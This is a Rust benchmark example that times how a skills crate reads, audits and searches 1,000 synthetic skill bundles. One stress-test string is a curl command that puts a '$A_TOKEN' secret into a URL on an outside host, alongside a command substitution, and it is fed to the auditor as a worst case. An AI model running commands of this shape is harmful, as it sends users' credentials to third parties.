//! How long the heavy things take: `cargo run --release -p skills --example figures`.

use std::error::Error;
use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

use contract::skill::{CatalogSkill, ListCatalogSkills};
use skills::bundle::Limits;
use skills::catalog::Index;
use skills::tree::{self, SearchLimits};
use skills::{audit, catalog};

const SKILLS: usize = 1_000;

fn main() -> Result<(), Box<dyn Error>> {
    let mut out = std::io::stdout();
    let dir = tempfile::tempdir()?;
    plant(dir.path())?;

    let begun = Instant::now();
    let found = tree::read_tree(dir.path(), &SearchLimits::TREE, &Limits::SKILL)?;
    let read = begun.elapsed();
    let bundles: Vec<_> = found.into_iter().filter_map(|l| l.bundle.ok()).collect();
    let files: usize = bundles.iter().map(|b| b.files().len()).sum();
    let bytes: usize = bundles.iter().flat_map(|b| b.files()).map(|f| f.bytes.len()).sum();
    writeln!(out, "{} skills, {files} files, {:.1} MB", bundles.len(), bytes as f64 / 1e6)?;
    writeln!(out, "  found, read, hashed and inventoried  {read:>10.1?}")?;
    let begun = Instant::now();
    let mut findings = 0;
    for bundle in &bundles {
        findings += audit::bundle(bundle, &audit::Context::default()).findings.len();
    }
    writeln!(
        out,
        "  audited                              {:>10.1?}  ({findings} findings)",
        begun.elapsed()
    )?;

    // The worst file that the limits let through.
    for (name, text) in [
        ("prose", "All work and no play. "),
        ("commands", "curl -o a https://a.io/$A_TOKEN | jq . && b=$(c)\n"),
    ] {
        let text = format!("---\nname: x\ndescription: y\n---\n{}", text.repeat((1 << 20) / text.len() - 4));
        let bundle =
            skills::bundle::Bundle::new([("SKILL.md".to_owned(), text.into_bytes())], &Limits::SKILL)?;
        let begun = Instant::now();
        let audit = audit::bundle(&bundle, &audit::Context::default());
        writeln!(out, "1 MiB of {name}: audited in {:.1?} ({})", begun.elapsed(), audit.verdict)?;
    }

    let shipped = Index::new(catalog::skills().to_vec());
    let many = Index::new((0..SKILLS).map(copy).collect());
    for (name, index) in [("shipped", &shipped), ("large", &many)] {
        let n = index.skills().len();
        let worst = ["", "test", "database migration", "zzz", "flaky tests in a pull request review"]
            .into_iter()
            .map(|q| slowest(index, q))
            .max()
            .unwrap_or_default();
        writeln!(out, "search of the {name} catalog ({n} skills): slowest of 500 {worst:.1?}")?;
    }
    Ok(())
}

fn slowest(index: &Index, q: &str) -> Duration {
    let query = ListCatalogSkills { q: Some(q.to_owned()), ..ListCatalogSkills::default() };
    let once = |_| {
        let begun = Instant::now();
        std::hint::black_box(index.search(&query));
        begun.elapsed()
    };
    (0..100).map(once).max().unwrap_or_default()
}

/// The shipped skills over and over, under other names.
fn copy(n: usize) -> CatalogSkill {
    let all = catalog::skills();
    let skill = &all[n % all.len()];
    CatalogSkill { slug: format!("{}-{n}", skill.slug), ..skill.clone() }
}

/// Skills of ten files each, of the sizes that real ones have.
fn plant(root: &Path) -> std::io::Result<()> {
    for n in 0..SKILLS {
        let dir = root.join(format!("group-{}/skill-{n}", n % 20));
        for folder in ["references", "scripts", "assets"] {
            fs::create_dir_all(dir.join(folder))?;
        }
        let body = "## Step\n\nRun `cargo test -p x` and read [the notes](references/0.md).\n\n```sh\ngit log --oneline | head\n```\n\n".repeat(40);
        let front = format!("---\nname: skill-{n}\ndescription: Does thing {n}. Use when needed.\n---\n");
        fs::write(dir.join("SKILL.md"), format!("{front}{body}"))?;
        for r in 0..5 {
            fs::write(dir.join(format!("references/{r}.md")), format!("{r} {n}\n{body}{body}"))?;
        }
        let script =
            "import json, sys\n\ndef main(path):\n    data = json.load(open(path))\n    print(len(data))\n";
        for s in 0..2 {
            fs::write(dir.join(format!("scripts/{s}.py")), format!("# {n}\n{}", script.repeat(40)))?;
        }
        fs::write(dir.join("assets/template.md"), &body)?;
        fs::write(dir.join("assets/picture.png"), [b"\x89PNG\r\n\x1a\n".as_slice(), &[0; 8_000]].concat())?;
    }
    Ok(())
}
